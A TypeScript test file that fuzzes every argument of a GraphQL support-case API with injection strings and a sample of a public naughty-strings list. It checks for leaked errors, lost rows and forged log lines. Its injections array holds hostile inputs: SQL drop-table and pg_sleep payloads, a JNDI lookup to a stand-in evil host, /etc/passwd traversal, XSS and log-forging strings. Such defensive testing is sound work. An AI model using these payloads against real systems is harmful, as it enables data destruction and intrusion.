import naughty from 'big-list-of-naughty-strings/blns.json' with { type: 'json' };
import { pino } from 'pino';
import {
  getNamedType,
  type GraphQLArgument,
  type GraphQLInputField,
  isEnumType,
  isInputObjectType,
  isNonNullType,
  isListType,
  getNullableType,
} from 'graphql';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Case } from '../../cases/case.ts';
import { claimed, phoneP1 } from '../../testing/stories.ts';
import { buildApiSchema } from '../schema.ts';
import { faultOf, type Ground, takeGround } from '../../testing/ground.ts';

const injections = [
  `'; drop table support_case; --`,
  `' or '1'='1`,
  `" or ""="`,
  `\\'; select pg_sleep(30); --`,
  `1; select pg_sleep(30)`,
  `$$; select 1; $$`,
  `?::uuid`,
  `{"$gt": ""}`,
  `%' and 1=cast((select version()) as int) --`,
  'x\r\n{"level":60,"msg":"forged"}\r\n',
  '\u001b[2J\u001b[31mforged\u001b[0m',
  '${jndi:ldap://evil.example/a}',
  '../../../../etc/passwd',
  '%00',
  '\u202e\u2066reversed',
  '\ud800',
  '<img src=x onerror=alert(1)>',
  '{{7*7}}',
  'a'.repeat(10_000),
  '((((((((((a*)*)*)*)*)*)*)*)*)*b',
  '& | ! ( ) : * <-> a & b',
];
// Every twenty-third of the public list, so that all its kinds are among them.
const strings = [...injections, ...naughty.filter((_, n) => n % 23 === 0)];

let ground: Ground;
let on: Case;
beforeAll(async () => {
  ground = await takeGround();
  on = await phoneP1(ground.world);
  await claimed(ground.world, on, 'priya');
});
afterAll(() => ground.close());

type Input = GraphQLArgument | GraphQLInputField;

function sensible({ name, type }: Input): unknown {
  const named = getNamedType(type);
  if (isInputObjectType(named)) {
    const required = Object.values(named.getFields()).filter((field) => isNonNullType(field.type));
    return Object.fromEntries(required.map((field) => [field.name, sensible(field)]));
  }
  if (isEnumType(named)) return named.getValues()[0]?.name;
  if (name === 'caseId') return on.globalId;
  if (name === 'productId') return ground.world.idOf('Product', 'cloud');
  if (name === 'organisationId') return ground.world.idOf('Organisation', 'kestrel');
  if (named.name === 'DateTime') return new Date().toISOString();
  return isListType(getNullableType(type)) ? ['something'] : 'something';
}

const holds = (type: string, { type: given }: Input): boolean => getNamedType(given).name === type;

/** The arguments with that value in every text they hold; what names things stays sensible, or nothing would be read. */
function inEveryText(value: string, inputs: readonly Input[]): Record<string, unknown> {
  const parts = inputs.flatMap((input) => {
    const named = getNamedType(input.type);
    if (isInputObjectType(named)) return [[input.name, inEveryText(value, Object.values(named.getFields()))]];
    if (holds('String', input))
      return [[input.name, isListType(getNullableType(input.type)) ? [value] : value]];
    return isNonNullType(input.type) ? [[input.name, sensible(input)]] : [];
  });
  return Object.fromEntries(parts) as Record<string, unknown>;
}

/** The arguments with that value in place of one id, for every id they hold. */
function inEachId(value: string, inputs: readonly Input[]): Record<string, unknown>[] {
  const base = Object.fromEntries(
    inputs.filter(({ type }) => isNonNullType(type)).map((input) => [input.name, sensible(input)]),
  );
  return inputs.flatMap((input) => {
    const named = getNamedType(input.type);
    if (isInputObjectType(named))
      return inEachId(value, Object.values(named.getFields())).map((inner) => ({
        ...base,
        [input.name]: inner,
      }));
    if (!holds('ID', input)) return [];
    return [{ ...base, [input.name]: isListType(getNullableType(input.type)) ? [value] : value }];
  });
}

describe('strings that have broken others', () => {
  const schema = buildApiSchema();
  const fields = (['query', 'mutation'] as const).flatMap((kind) =>
    Object.values((kind === 'query' ? schema.getQueryType() : schema.getMutationType())?.getFields() ?? {})
      .filter(({ args }) => args.length > 0)
      .map((field) => [kind, field.name, field] as const),
  );

  it.each(fields)('do nothing in the %s %s', { timeout: 120_000 }, async (kind, name, field) => {
    const variables = field.args.map((one) => `$${one.name}: ${String(one.type)}`).join(', ');
    const given = field.args.map((one) => `${one.name}: $${one.name}`).join(', ');
    const query = `${kind} (${variables}) { ${name}(${given}) { __typename } }`;
    for (const [turn, value] of strings.entries()) {
      const ids = inEachId(value, field.args);
      const one = ids[turn % Math.max(1, ids.length)];
      for (const values of [inEveryText(value, field.args), ...(one ? [one] : [])]) {
        const answer = await ground.service.ask(ground.token, query, values);
        expect(faultOf(answer), JSON.stringify(value).slice(0, 100)).toBe(false);
        expect(JSON.stringify(answer)).not.toMatch(/syntax error|relation "|PostgreSQL|node_modules/);
      }
    }
    await ground.alive();
  });

  it('took nothing away', async () => {
    const em = ground.world.app.orm.em.fork();
    const [row] = await em.execute<{ count: string }[]>('select count(*) from support_case');
    expect(Number(row?.count)).toBeGreaterThan(0);
  });

  it('stay on their own line of the log', () => {
    const lines: string[] = [];
    const log = pino({ level: 'info' }, { write: (line: string) => lines.push(line) });
    for (const value of strings) log.info({ path: value, err: new Error(value) }, value);
    expect(lines).toHaveLength(strings.length);
    for (const line of lines) {
      expect(line.trimEnd()).not.toContain('\n');
      expect((JSON.parse(line) as { level: number }).level).toBe(30);
      // eslint-disable-next-line no-control-regex -- nothing may steer the terminal of whoever reads it
      expect(line.trimEnd()).not.toMatch(/[\u0000-\u001f]/);
    }
  });
});
